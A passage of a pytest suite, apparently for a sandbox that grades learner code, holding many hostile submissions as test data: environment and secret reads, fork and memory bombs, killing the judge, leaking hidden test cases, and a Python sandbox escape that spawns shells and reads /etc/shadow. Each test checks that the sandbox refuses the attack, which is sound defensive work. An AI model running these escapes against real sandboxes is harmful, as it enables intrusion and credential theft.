    Attack("torch-multiprocessing", src("""
        import torch.multiprocessing as mp
        def gelu(x):
            mp.Process(target=print).start()
            return x
        """), "forbidden", ("torch.multiprocessing",)),
    # a relative import
    Attack("relative-import", src("""
        from . import secrets
        def gelu(x):
            return secrets.answer(x)
        """), "forbidden", ("Importing",)),
]


@pytest.mark.parametrize("case", run_attacks(OS_ROUTES))
def test_os_routes(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


# --- 6. writing outside the private /tmp -----------------------------------------------------------------------

WRITES = {
    # np.save into the checkout
    "np-save-checkout": ("np.save({!r}, x)", REPO / f"{MARK}.npy", "runtime_error"),
    # np.save into root's home
    "np-save-root": ("np.save({!r}, x)", Path(f"/root/{MARK}.npy"), "runtime_error"),
    # np.save into /tmp: lands in the child's private tmpfs, never the host's /tmp
    "np-save-tmp": ("np.save({!r}, x)", Path(f"/tmp/{MARK}.npy"), "wrong_answer"),
    # np.savetxt into /tmp
    "np-savetxt-tmp": ("np.savetxt({!r}, x.reshape(-1))", Path(f"/tmp/{MARK}.txt"), "wrong_answer"),
    # ndarray.tofile into /tmp
    "tofile-tmp": ("x.tofile({!r})", Path(f"/tmp/{MARK}"), "runtime_error"),
    # a writable memmap into the exercise's own folder
    "memmap-exercise": ("np.memmap({!r}, mode='w+', shape=(3,))", GELU_DIR / f"{MARK}.json", "runtime_error"),
}


@pytest.mark.parametrize("template, path, verdict", WRITES.values(), ids=WRITES.keys())
def test_numpy_writes_stay_in_the_jail(gelu: Exercise, bare_pool: Pool, host_paths: list[Path], template: str,
                                       path: Path, verdict: str) -> None:
    # the OS layer alone (no audit hook): a write lands in the private /tmp or fails, never on the host
    assert path in host_paths
    source = src(f"""
        import numpy as np
        def gelu(x):
            {template.format(str(path))}
            return x
        """)
    attack(gelu, bare_pool, source, verdict)
    assert not path.exists()


@pytest.mark.parametrize("template, path", [(t, p) for t, p, _ in WRITES.values()], ids=WRITES.keys())
def test_file_writes_are_refused(gelu: Exercise, pool: Pool, host_paths: list[Path], template: str,
                                 path: Path) -> None:
    # with every layer: creating or changing a file is refused by the audit hook, a verdict that says so
    # (ndarray.tofile looks `open` up in the builtins, which the submission's are not: a PermissionError)
    source = src(f"""
        import numpy as np
        def gelu(x):
            {template.format(str(path))}
            return x
        """)
    if template.startswith("x.tofile"):
        attack(gelu, pool, source, "runtime_error", "PermissionError")
    else:
        attack(gelu, pool, source, "forbidden", "`open`")
    assert not path.exists()


@pytest.mark.parametrize("path, verdict", [
    (REPO / f"{MARK}.pt", "runtime_error"),  # torch.save into the checkout
    (Path(f"/root/{MARK}.pt"), "runtime_error"),  # torch.save into /root
    (Path(f"/tmp/{MARK}.pt"), "wrong_answer"),  # torch.save into the private /tmp
], ids=["checkout", "root", "tmp"])
def test_torch_save_stays_in_the_jail(gelu: Exercise, bare_pool: Pool, host_paths: list[Path], path: Path,
                                      verdict: str) -> None:
    source = src(f"""
        import torch
        def gelu(x):
            torch.save(x, {str(path)!r})
            return x
        """)
    attack(gelu, bare_pool, source, verdict)
    assert not path.exists()
    attack(gelu, bare_pool, source.replace("import torch", "import torch\nimport numpy"), verdict)


def test_torch_save_with_every_layer_lands_in_the_private_tmp(gelu: Exercise, pool: Pool,
                                                               host_paths: list[Path]) -> None:
    # torch.save opens its file in C++, where no audit event fires: the jail alone keeps it off the host
    source = f"import torch\n\ndef gelu(x):\n    torch.save(x, '/tmp/{MARK}.pt')\n    return x\n"
    attack(gelu, pool, source, "wrong_answer")
    assert not Path(f"/tmp/{MARK}.pt").exists()


def test_tmp_is_private_to_each_run(gelu: Exercise, bare_pool: Pool, host_paths: list[Path]) -> None:
    # one run leaves a file in /tmp, the next looks for it: each child gets a fresh, empty /tmp (the OS layer
    # alone: with the audit hook the write is refused in the first place)
    writer = src(f"""
        import numpy as np
        np.save("/tmp/{MARK}.npy", np.arange(3.0))
        def gelu(x):
            return x
        """)
    reader = src(f"""
        import numpy as np
        def gelu(x):
            return np.memmap("/tmp/{MARK}.npy", mode="r", dtype=np.uint8)
        """)
    attack(gelu, bare_pool, writer, "wrong_answer")
    for _ in range(3):  # whichever child takes it
        attack(gelu, bare_pool, reader, "runtime_error", "FileNotFoundError")


# --- 7. the judge's environment --------------------------------------------------------------------------------


@pytest.fixture
def secret_pool(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Pool, str]]:
    """A fresh pool started after a secret was put in the judge's environment."""
    secret = f"s3cr3t-{uuid.uuid4().hex}"
    monkeypatch.setenv("MLJUDGE_ATTACK_SECRET", secret)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", secret)
    fresh = new_pool(1)
    try:
        yield fresh, secret
    finally:
        fresh.close()


ENV_ROUTES = [
    # os.environ after importing os
    Attack("import-os-environ", src("""
        import os
        def gelu(x):
            print(dict(os.environ))
            return x
        """), "forbidden", ("os",)),
    # os.environ through torch
    Attack("torch-os-environ", src("""
        import torch
        def gelu(x):
            print(dict(torch.os.environ))
            return x
        """), "forbidden", ("os",)),
    # os.environ through numpy.f2py
    Attack("np-f2py-environ", src("""
        import numpy as np
        def gelu(x):
            print(dict(np.f2py.os.environ))
            return x
        """), "forbidden", ("numpy.f2py",)),
    # reading the environment block from /proc
    Attack("np-proc-self-environ", src("""
        import numpy as np
        def gelu(x):
            print(np.loadtxt("/proc/self/environ", dtype=str, delimiter="\\0"))
            return x
        """), "runtime_error", ("FileNotFoundError",)),
    # torch's own view of an env var
    Attack("torch-config-show", src("""
        import torch
        def gelu(x):
            print(torch.__config__.show())
            return x
        """), "forbidden", ("__config__",)),
]


@pytest.mark.parametrize("case", run_attacks(ENV_ROUTES))
def test_environment_is_not_visible(gelu: Exercise, secret_pool: tuple[Pool, str], case: Attack) -> None:
    fresh, secret = secret_pool
    report = attack(gelu, fresh, case.source, case.verdict, *case.names)
    assert secret not in text_of(report)
    assert "MLJUDGE_ATTACK_SECRET" not in text_of(report)


def test_zygotes_never_hold_the_judges_environment(gelu: Exercise, secret_pool: tuple[Pool, str]) -> None:
    # not an attack: the host-side fact behind the ones above
    fresh, secret = secret_pool
    assert judged(gelu, MODEL["numpy"], "numpy", pool=fresh).verdict == "accepted"
    zygotes = [pid for pid, (ppid, _, cmd, _) in processes().items() if ppid == os.getpid() and is_zygote(cmd)]
    assert zygotes
    for pid in zygotes:
        assert secret.encode() not in Path(f"/proc/{pid}/environ").read_bytes()


# --- 8. the network --------------------------------------------------------------------------------------------


@pytest.fixture
def listener() -> Iterator[tuple[int, socket.socket]]:
    """A real TCP server on the host's loopback; the test asserts nobody connected."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    try:
        yield server.getsockname()[1], server
    finally:
        server.close()


def nobody_connected(server: socket.socket) -> bool:
    readable, _, _ = select.select([server], [], [], 0.3)
    return not readable


NETWORK = {
    # import socket
    "import-socket": ("import socket\nsocket.create_connection(('127.0.0.1', {port}))", "forbidden", "socket"),
    # urllib
    "import-urllib": ("import urllib.request\nurllib.request.urlopen('http://127.0.0.1:{port}/')", "forbidden",
                      "urllib"),
    # numpy's DataSource fetches URLs with urllib
    "np-datasource-url": ("import numpy as np\nnp.lib.npyio.DataSource(None).open('http://127.0.0.1:{port}/x')",
                          "forbidden", ""),  # its download folder is refused before any connection
    # np.genfromtxt on a URL
    "np-genfromtxt-url": ("import numpy as np\nnp.genfromtxt('http://127.0.0.1:{port}/x.txt')", "runtime_error",
                          ""),
    # torch.hub's downloader, re-exported as torch.utils.model_zoo
    "torch-model-zoo": ("import torch.utils.model_zoo\ntorch.utils.model_zoo.load_url("
                        "'http://127.0.0.1:{port}/x.pt', model_dir='/tmp')", "forbidden", ""),
    # torch.distributed's TCP store
    "torch-distributed": ("import torch\ntorch.distributed.TCPStore('127.0.0.1', {port})", "forbidden",
                          "torch.distributed"),
}


@pytest.mark.parametrize("code, verdict, name", NETWORK.values(), ids=NETWORK.keys())
def test_network(gelu: Exercise, pool: Pool, listener: tuple[int, socket.socket], code: str, verdict: str,
                 name: str) -> None:
    port, server = listener
    body = textwrap.indent(code.format(port=port), "    ")
    source = f"def gelu(x):\n{body}\n    return x\n"
    attack(gelu, pool, source, verdict, *([name] if name else []))
    assert nobody_connected(server)


# --- 9. time: loops, sleeping, blocking, busy threads, ignored signals -----------------------------------------

TIME = [
    # the plain infinite loop, inside the function
    Attack("while-true", "def gelu(x):\n    while True:\n        pass\n", "time_limit"),
    # an infinite loop at import time
    Attack("module-loop", "while True:\n    pass\n\ndef gelu(x):\n    return x\n", "time_limit"),
    # numpy busy work that never ends
    Attack("numpy-spin", src("""
        import numpy as np
        def gelu(x):
            while True:
                x = np.tanh(x) + 1
        """), "time_limit"),
    # an infinite iterator consumed by sum()
    Attack("itertools-count", "import itertools\n\ndef gelu(x):\n    return sum(itertools.count())\n", "time_limit"),
    # time.sleep (not importable)
    # time is a harmless standard module now: sleeping runs into the wall clock
    Attack("import-time-sleep", "import time\n\ndef gelu(x):\n    time.sleep(100)\n    return x\n", "time_limit"),
    # torch's private sleep kernel
    Attack("torch-cuda-sleep", "import torch\n\ndef gelu(x):\n    torch.cuda._sleep(10**12)\n    return x\n",
           "forbidden"),
    # a future nobody will complete: blocks without burning CPU, so only the wall clock stops it
    Attack("torch-future-wait", "import torch\n\ndef gelu(x):\n    torch.futures.Future().wait()\n    return x\n",
           "time_limit"),
    # eight threads of matmuls: CPU time accrues across all threads
    Attack("torch-threads-8", src("""
        import torch
        torch.set_num_threads(8)
        def gelu(x):
            a = torch.randn(800, 800)
            while True:
                a = torch.tanh(a @ a)
        """), "time_limit"),
    # signal handlers to ignore the CPU limit (not importable)
    Attack("import-signal", src("""
        import signal
        signal.signal(signal.SIGXCPU, signal.SIG_IGN)
        def gelu(x):
            while True:
                pass
        """), "forbidden", ("signal",)),
    # Python threads (not importable)
    Attack("import-threading", "import threading\n\ndef gelu(x):\n    threading.Thread(target=print).start()\n"
           "    return x\n", "forbidden", ("threading",)),
]


@pytest.mark.parametrize("case", run_attacks(TIME))
def test_time(fast: Exercise, pool: Pool, case: Attack) -> None:
    report = attack(fast, pool, case.source, case.verdict, *case.names)
    if case.verdict == "time_limit" and case.id.startswith("module-"):
        # never finished loading: no case is blamed, the message says where the time went and what to do
        assert {c.status for c in report.cases} == {"not_run"}
        assert report.message.startswith("Code outside the function ran longer than the ")
        assert "Move it into `gelu`" in report.message
    elif case.verdict == "time_limit":
        assert any(c.status == "timeout" for c in report.cases)


def test_sixty_four_threads_are_capped(gelu: Exercise, pool: Pool) -> None:
    # More threads than RLIMIT_NPROC (32) allows made the OpenMP runtime exit(1) mid-matmul, an unexplained
    # crash; the zygote caps what torch.set_num_threads grants, so the run works and says how many it got.
    source = src("""
        import torch
        torch.set_num_threads(64)
        def gelu(x):
            a = torch.randn(600, 600)
            for _ in range(3):
                a = torch.tanh(a @ a)
            print("threads", torch.get_num_threads())
            return 0.5 * x * (1 + torch.tanh((2 / torch.pi) ** 0.5 * (x + 0.044715 * x**3)))
        """)
    report = judged(gelu, source, "torch", pool=pool)
    assert report.verdict == "accepted", report.message
    assert "threads 4" in report.stdout
    assert_judge_works(gelu, pool, "torch")


def test_real_limits_stop_an_infinite_loop(gelu: Exercise, pool: Pool) -> None:
    # the exercise's own limits (3 s CPU, 5 s wall), once
    report = attack(gelu, pool, "def gelu(x):\n    while True:\n        pass\n", "time_limit")
    assert report.cases[0].status == "timeout"
    assert_judge_works(gelu, pool)


# --- 10. memory ------------------------------------------------------------------------------------------------

MEMORY = {
    "numpy-ones": "import numpy as np\n\ndef gelu(x):\n    return np.ones(10**10)\n",  # 80 GB at once
    "numpy-keep-growing": src("""
        import numpy as np
        KEEP = []
        def gelu(x):
            while True:
                KEEP.append(np.ones(10**7))
        """),  # 80 MB at a time, kept
    "torch-empty": "import torch\n\ndef gelu(x):\n    return torch.empty(10**10).fill_(1)\n",
    "python-list-growing": src("""
        CHUNKS = []
        def gelu(x):
            while True:
                CHUNKS.append([0] * 10**7)
        """),  # kept across cases, so only the first case pays for filling the memory
    "string-multiplication": "def gelu(x):\n    return 'x' * 10**10\n",
    "bytearray": "def gelu(x):\n    return bytearray(10**10)\n",
    "list-multiplication": "def gelu(x):\n    return [0.0] * 10**10\n",
    "module-level": "import numpy as np\n\nBIG = np.ones((10**5, 10**5))\n\ndef gelu(x):\n    return x\n",
    "ten-to-eight-float64": "import numpy as np\n\ndef gelu(x):\n    return np.zeros(10**8) + 1\n",
    # a zero-cost broadcast view whose copy for the wire would need 800 MB
    "broadcast-view": "import numpy as np\n\ndef gelu(x):\n    return np.broadcast_to(np.float64(0.5), (10**8,))\n",
}


@pytest.mark.parametrize("source", MEMORY.values(), ids=MEMORY.keys())
def test_memory(gelu: Exercise, pool: Pool, source: str) -> None:
    attack(gelu, pool, source, "memory_limit", "512 MB")


def test_memory_bombs_leave_the_pool_working(gelu: Exercise, pool: Pool) -> None:
    for source in MEMORY.values():
        attack(gelu, pool, source, "memory_limit")
    assert_judge_works(gelu, pool, "numpy", "torch")


# --- 11. processes ---------------------------------------------------------------------------------------------

FORKS = [
    # os.fork in a loop
    Attack("os-fork", "import os\n\ndef gelu(x):\n    while True:\n        os.fork()\n", "forbidden", ("os",)),
    # os.fork through torch
    Attack("torch-os-fork", src("""
        import torch
        def gelu(x):
            for _ in range(1000):
                torch.os.fork()
            return x
        """), "forbidden", ("os",)),
    # fork() through libc, reached by numpy.ctypeslib
    Attack("ctypeslib-fork", src("""
        import numpy as np
        def gelu(x):
            libc = np.ctypeslib.ctypes.CDLL(None)
            for _ in range(1000):
                libc.fork()
            return x
        """), "forbidden", ("numpy.ctypeslib",)),
    # torch.multiprocessing.Pool
    Attack("torch-mp-pool", src("""
        import torch
        def gelu(x):
            torch.multiprocessing.Pool(64)
            return x
        """), "forbidden", ("torch.multiprocessing",)),
    # multiprocessing
    Attack("multiprocessing", "import multiprocessing\n\ndef gelu(x):\n    multiprocessing.Process().start()\n"
           "    return x\n", "forbidden", ("multiprocessing",)),
]


@pytest.mark.parametrize("case", run_attacks(FORKS))
def test_fork_storms(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


# --- 12. output floods -----------------------------------------------------------------------------------------

FLOODS = {
    "print-loop": "def gelu(x):\n    while True:\n        print('spam' * 100)\n",
    "one-huge-print": "def gelu(x):\n    print('x' * 10**8)\n    return x\n",
    "module-level-flood": "for i in range(10**7):\n    print(i)\n\ndef gelu(x):\n    return x\n",
    "print-to-file-argument": src("""
        class Sink:
            def __init__(self):
                self.parts = []
            def write(self, text):
                self.parts.append(text)
        SINK = Sink()
        def gelu(x):
            while True:
                print("x" * 1000, file=SINK)
                print("y" * 1000)
        """),
}


@pytest.mark.parametrize("source", FLOODS.values(), ids=FLOODS.keys())
def test_output_floods(gelu: Exercise, pool: Pool, source: str) -> None:
    report = attack(gelu, pool, source, "output_limit")
    assert len(report.stdout) <= gelu.limits.output_kb * 1024


def test_flood_during_hidden_cases(gelu: Exercise, pool: Pool) -> None:
    # correct answers, but a flood of output once the hidden cases start
    report = attack(gelu, pool, src("""
        import numpy as np
        calls = [0]
        def gelu(x):
            calls[0] += 1
            if calls[0] > 2:
                while True:
                    print(x)
            return 0.5 * x * (1 + np.tanh(np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)))
        """), "output_limit")
    assert report.stdout == ""


def test_huge_answers_hit_the_result_cap(gelu: Exercise, pool: Pool) -> None:
    # 10**8 booleans (100 MB): fits the memory limit, not the 16 MiB cap on what the judge reads from a run
    attack(gelu, pool, "import numpy as np\n\ndef gelu(x):\n    return np.zeros(10**8, dtype=bool)\n",
           "output_limit", "the answer is too large to send back (over 16 MB)")
    assert_judge_works(gelu, pool)


# --- 13. killing the judge, exiting early ----------------------------------------------------------------------

EXITS = [
    # SIGKILL to the parent through torch.os
    Attack("torch-os-kill-parent", src("""
        import torch
        def gelu(x):
            torch.os.kill(torch.os.getppid(), 9)
            return x
        """), "forbidden", ("os",)),
    # signal.pthread_kill / raise_signal
    Attack("signal-raise", "import signal\n\ndef gelu(x):\n    signal.raise_signal(9)\n    return x\n",
           "forbidden", ("signal",)),
    # os._exit through torch
    Attack("torch-os-exit", "import torch\n\ndef gelu(x):\n    torch.os._exit(0)\n", "forbidden"),
    # sys.exit
    Attack("sys-exit", "import sys\n\ndef gelu(x):\n    sys.exit(0)\n", "forbidden", ("sys",)),
    # exit() and quit()
    Attack("exit-builtin", "def gelu(x):\n    exit()\n", "forbidden", ("exit()",)),
    Attack("quit-builtin", "quit()\n\ndef gelu(x):\n    return x\n", "forbidden", ("quit()",)),
    # SystemExit at import time: a forked child that let it escape would run the zygote's own code
    Attack("system-exit-module", "raise SystemExit(0)\n\ndef gelu(x):\n    return x\n", "runtime_error",
           ("exit()",)),
    # SystemExit inside the function
    Attack("system-exit-function", "def gelu(x):\n    raise SystemExit(0)\n", "runtime_error", ("exit()",)),
    # KeyboardInterrupt
    Attack("keyboard-interrupt", "def gelu(x):\n    raise KeyboardInterrupt\n", "runtime_error",
           ("KeyboardInterrupt",)),
    # GeneratorExit, another BaseException
    Attack("generator-exit", "def gelu(x):\n    raise GeneratorExit\n", "runtime_error", ("GeneratorExit",)),
]


@pytest.mark.parametrize("case", run_attacks(EXITS))
def test_exits_and_kills(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


def test_the_judge_survives_exits_and_kills(gelu: Exercise, pool: Pool) -> None:
    for case in EXITS:
        attack(gelu, pool, case.source, case.verdict)
    assert_judge_works(gelu, pool, "numpy", "torch")


# --- 14. recursion ---------------------------------------------------------------------------------------------

RECURSION = [
    Attack("plain-recursion", "def gelu(x):\n    return gelu(x)\n", "runtime_error", ("RecursionError",)),
    Attack("mutual-recursion", "def a(x):\n    return b(x)\n\ndef b(x):\n    return a(x)\n\ngelu = a\n",
           "runtime_error", ("RecursionError",)),
    # a __repr__ that recurses, triggered by print
    Attack("recursive-repr", src("""
        class R:
            def __repr__(self):
                return repr(self)
        def gelu(x):
            print(R())
            return x
        """), "runtime_error", ("RecursionError",)),
    # a self-containing list returned (the encoder must not recurse forever)
    Attack("self-containing-list", "def gelu(x):\n    a = [x]\n    a.append(a)\n    return a\n", "wrong_answer"),
    # deep nested data in the return value
    Attack("deep-nested-return", src("""
        def gelu(x):
            v = x
            for _ in range(200000):
                v = [v]
            return v
        """), "wrong_answer"),
    # a recursion in the exception message
    Attack("recursive-exception-str", src("""
        class E(Exception):
            def __str__(self):
                return str(self)
        def gelu(x):
            raise E()
        """), "runtime_error"),
]


@pytest.mark.parametrize("case", run_attacks(RECURSION))
def test_recursion(gelu: Exercise, pool: Pool, case: Attack) -> None:
    attack(gelu, pool, case.source, case.verdict, *case.names)


# --- 15. sources that break the parser -------------------------------------------------------------------------

SOURCES = {
    "over-64-KiB": (b"import numpy as np\n# " + b"a" * 70_000 + b"\ndef gelu(x):\n    return x\n", "65536"),
    "megabytes": (b"x = 1\n" * 2_000_000 + b"def gelu(x):\n    return x\n", "65536"),
    "not-utf8": (b"import numpy as np\n# \xff\xfe caf\xe9\ndef gelu(x):\n    return x\n", "UTF-8"),
    "nul-byte": (b"import numpy as np\ndef gelu(x):\n    return x  # \x00\n", "NUL"),
    "nested-parentheses": (b"x = " + b"(" * 5000 + b"1" + b")" * 5000 + b"\ndef gelu(x):\n    return x\n",
                           "parenthes"),
    "nested-lists": (b"x = " + b"[" * 3000 + b"]" * 3000 + b"\ndef gelu(x):\n    return x\n", ""),
    "deep-unary-minus": (b"x = " + b"-" * 60_000 + b"1\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-binop-chain": (b"x = 1" + b"+1" * 1_000 + b"\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-attribute-chain": (b"x = " + b"a." * 20_000 + b"b\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-lambdas": (b"f = " + b"lambda: " * 7_000 + b"1\ndef gelu(x):\n    return x\n", "parsed"),
    "deep-indentation": (("def gelu(x):\n" + "".join(" " * (i + 1) + "if x:\n" for i in range(120))
                          + " " * 121 + "return x\n").encode(), "indentation"),
    "return-outside-function": (b"return 1\ndef gelu(x):\n    return x\n", "outside function"),
    "yield-outside-function": (b"yield 1\ndef gelu(x):\n    return x\n", "outside function"),
    "late-future-import": (b"x = 1\nfrom __future__ import annotations\ndef gelu(x):\n    return x\n", "__future__"),
}


@pytest.mark.parametrize("raw, phrase", SOURCES.values(), ids=SOURCES.keys())
def test_sources_that_break_the_parser(gelu: Exercise, pool: Pool, raw: bytes, phrase: str) -> None:
    report = attack(gelu, pool, raw, "compile_error", phrase)
    assert all(c.status == "not_run" for c in report.cases)


def test_source_as_str_with_surrogates(gelu: Exercise, pool: Pool) -> None:
    # a str that cannot be encoded to UTF-8 at all (a lone surrogate)
    attack(gelu, pool, "def gelu(x):\n    return x  # \udcff\n", "compile_error")


# --- 16. exfiltrating hidden cases -----------------------------------------------------------------------------

# Inputs of the hidden cases "large" and "shape-3d" (its first random value, to 16 digits).
HIDDEN_VALUES = ("-17.5", "-8.25", "2.0577137479038026")

RECORDER = src("""
    import numpy as np
    SEEN = []
    def good(x):
        return 0.5 * x * (1 + np.tanh(np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)))
    def gelu(x):
        SEEN.append(x.tolist())
        {action}
        return good(x)
    """)


def test_hidden_case_prints_are_not_shown(gelu: Exercise, pool: Pool) -> None:
    # print every input: the visible ones come back, the hidden ones do not
    report = judged(gelu, RECORDER.format(action="print('INPUT', x.tolist())"), pool=pool)
    assert report.verdict == "accepted"
    assert report.stdout.count("INPUT") == 2  # the two visible cases
    assert not any(v in report.stdout for v in HIDDEN_VALUES)
    assert report.notes  # "what your code printed during hidden cases is not shown"
    for case in report.cases:
        if not case.visible:
            assert case.input is None and case.expected is None and case.got is None


def test_hidden_case_exception_messages_are_not_shown(gelu: Exercise, pool: Pool) -> None:
    # raise with the hidden input in the message: the report shows neither the message, nor the exception's type,
    # nor the line (the code chooses all three), only that an exception was raised on a hidden case
    source = RECORDER.format(action="if len(SEEN) > 2:\n        raise ValueError('LEAK ' + str(x.tolist()))")
    report = attack(gelu, pool, source, "runtime_error", "raised an exception")
    text = text_of(report)
    assert "ValueError" not in text and "LEAK" not in text
    assert not any(v in text for v in HIDDEN_VALUES)
    assert not re.search(r"line \d", text)


def test_visible_case_exception_messages_are_shown(gelu: Exercise, pool: Pool) -> None:
    # the counterpart: in a visible case the message is the learner's best clue and is kept
    report = attack(gelu, pool, "def gelu(x):\n    raise ValueError('shown ' + str(x.shape))\n", "runtime_error")
    assert "shown (3,)" in report.message


def test_hidden_inputs_cannot_ride_on_the_plot(gelu: Exercise, pool: Pool) -> None:
    # keep hidden inputs in a global and return them as the plotted curve: the plot is drawn before them
    source = src("""
        import numpy as np
        SEEN = []
        def gelu(x):
            if x.size == 321:
                flat = [v for case in SEEN for v in np.ravel(case).tolist()]
                return np.array((flat + [0.0] * 321)[:321])
            SEEN.append(x.copy())
            return 0.5 * x * (1 + np.tanh(np.sqrt(2 / np.pi) * (x + 0.044715 * x**3)))
        """)
    report = judged(gelu, source, pool=pool, plot=True)
    assert report.verdict == "accepted"
    assert report.plot is not None and report.plot["learner"] is not None
    plotted = json.dumps(report.plot["learner"])
    assert not any(v in plotted for v in HIDDEN_VALUES)


# --- 17. defence in depth: the language policy switched off, the OS jail alone ---------------------------------

# Reaches `os` and the real `__import__` with plain attribute access, as eval'd or unpickled code could.
PRELUDE = src("""
    OS = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__
    os = OS["sys"].modules["os"]
    sys = OS["sys"]
    imp = sys.modules["builtins"].__import__
    open = sys.modules["builtins"].open

    def attempt(label, action):
        try:
            print(label, "DONE", action())
        except BaseException as exc:
            print(label, "REFUSED", type(exc).__name__)
    """)


@pytest.fixture(scope="module")
def bare_pool() -> Iterator[Pool]:
    """Zygotes whose children run without the tripwires that cannot be undone: no audit hook, no replaced kernels,
    no index of the libraries' private objects. What such a child can do, only the OS jail limits."""
    bare = new_pool(1, unguarded=True)
    try:
        yield bare
    finally:
        bare.close()


@pytest.fixture
def unguarded(monkeypatch: pytest.MonkeyPatch, bare_pool: Pool) -> Pool:
    """judged() compiles submissions as plain Python: no static policy, no attribute guards, and runs them in the
    bare pool. The tripwire's builtins remain (so `import os` is still refused), but `().__class__...` reaches
    everything."""

    def plain(raw: str | bytes, rules: policy.Rules, filename: str = "solution.py") -> policy.Program:
        source = policy.decode_source(raw)
        return policy.Program(compile(source, filename, "exec", dont_inherit=True), source, filename, frozenset())

    monkeypatch.setattr(sandbox, "vet", plain)  # the front door, where grade() finds it
    return bare_pool


def jailed(exercise: Exercise, pool: Pool, body: str, verdict: str = "wrong_answer") -> Report:
    """Run PRELUDE + body at import time (its prints are shown), then `gelu` returns x: a wrong answer."""
    source = PRELUDE + src(body) + "\ndef gelu(x):\n    return x\n"
    return attack(exercise, pool, source, verdict)


def outcomes(report: Report) -> dict[str, str]:
    """label -> 'DONE ...' or 'REFUSED ErrorType', from the attempt() lines printed."""
    found = {}
    for line in report.stdout.splitlines():
        label, _, rest = line.partition(" ")
        if rest.startswith(("DONE", "REFUSED")):
            found[label] = rest
    return found


# What the OS answers when it refuses: anything else (a NameError, say) would mean the attempt never ran.
REFUSALS = ("REFUSED PermissionError", "REFUSED FileNotFoundError", "REFUSED OSError")


def refused(value: str) -> bool:
    return value in REFUSALS


def test_unguarded_code_really_is_unguarded(gelu: Exercise, pool: Pool, unguarded: Pool) -> None:
    # the control: without the policy the prelude reaches os (so the tests below test the jail, not the policy)
    report = jailed(gelu, unguarded, 'attempt("uid", os.getuid)\nattempt("pid", os.getpid)')
    assert outcomes(report)["uid"].startswith("DONE 6")  # an unprivileged jail uid, 60000 + slot


def test_unguarded_processes(gelu: Exercise, pool: Pool, unguarded: Pool, host_paths: list[Path]) -> None:
    # fork, spawn, exec, subprocess, system(): no new process, no command run
    report = jailed(gelu, unguarded, f"""
        attempt("fork", lambda: [os.fork() for _ in range(100)])
        attempt("forkpty", os.forkpty)
        attempt("spawn", lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch /tmp/{MARK}"], {{}}))
        attempt("execv", lambda: os.execv("/bin/sh", ["sh", "-c", "touch /tmp/{MARK}"]))
        attempt("subprocess", lambda: imp("subprocess").run(["touch", "/tmp/{MARK}"]))
        attempt("system", lambda: os.system("touch /tmp/{MARK}"))
        attempt("ctypes-fork", lambda: imp("ctypes").CDLL(None).fork())
        attempt("ctypes-system", lambda: imp("ctypes").CDLL(None).system(b"touch /tmp/{MARK}"))
        """)
    seen = outcomes(report)
    for label in ("fork", "forkpty", "spawn", "execv", "subprocess"):
        assert refused(seen[label]), (label, seen[label])
    # glibc's system() reports "the shell exited 127" when it cannot even spawn it
    assert seen["system"] == seen["ctypes-system"] == f"DONE {127 << 8}"
    assert seen["ctypes-fork"] == "DONE -1"


def test_unguarded_thread_bomb(gelu: Exercise, pool: Pool, unguarded: Pool) -> None:
    # threads are allowed, but only as many as RLIMIT_NPROC
    report = jailed(gelu, unguarded, """
        threading = imp("threading")
        stop = threading.Event()
        def bomb():
            threads = []
            for _ in range(10000):
                t = threading.Thread(target=stop.wait)
                t.start()
                threads.append(t)
        attempt("threads", bomb)
        stop.set()
        """)
    assert outcomes(report)["threads"] == "REFUSED RuntimeError"  # can't start new thread


def test_unguarded_network(gelu: Exercise, pool: Pool, unguarded: Pool, listener: tuple[int, socket.socket]) -> None:
    # TCP to the host's loopback, UDP, a unix socket, a raw socket: no socket at all
    port, server = listener
    report = jailed(gelu, unguarded, f"""
        socket = imp("socket")
        attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1))
        attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {port})))
        attempt("unix", lambda: socket.socket(socket.AF_UNIX))
        attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
        attempt("pair", socket.socketpair)
        """)
    assert all(v == "REFUSED PermissionError" for v in outcomes(report).values()), outcomes(report)
    assert len(outcomes(report)) == 5
    assert nobody_connected(server)


def test_unguarded_filesystem(gelu: Exercise, pool: Pool, unguarded: Pool, host_paths: list[Path]) -> None:
    # read the judge's files, write the host's, look around: only a read-only Python and a private /tmp exist
    report = jailed(gelu, unguarded, f"""
        def write(path):
            with open(path, "w") as f:
                f.write("pwned")
        attempt("read-expected", lambda: open({str(EXPECTED_JSON)!r}).read())
        attempt("read-reference", lambda: open({str(REFERENCE_PY)!r}).read())
        attempt("read-shadow", lambda: open("/etc/shadow").read())
        attempt("proc", lambda: os.listdir("/proc"))
        attempt("write-checkout", lambda: write({str(REPO / f"{MARK}.npy")!r}))
        attempt("write-root", lambda: write("/root/{MARK}.npy"))
        attempt("write-usr", lambda: write("/usr/{MARK}"))
        attempt("write-tmp", lambda: write("/tmp/{MARK}"))
        attempt("mkdir-home", lambda: os.makedirs("/home/{MARK}"))
        attempt("listdir", lambda: sorted(os.listdir("/")))
        """)
    seen = outcomes(report)
    for label in ("read-expected", "read-reference", "read-shadow", "proc", "write-checkout", "write-root",
                  "write-usr", "mkdir-home"):
        assert refused(seen[label]), (label, seen[label])
    assert seen["write-tmp"] == "DONE None"  # the private tmpfs: gone with the child
    assert "'proc'" not in seen["listdir"] and "'sys'" not in seen["listdir"] and "'home'" not in seen["listdir"]


def test_unguarded_environment(gelu: Exercise, secret_pool: tuple[Pool, str], unguarded: Pool) -> None:
    # the whole environment, printed
    fresh, secret = secret_pool
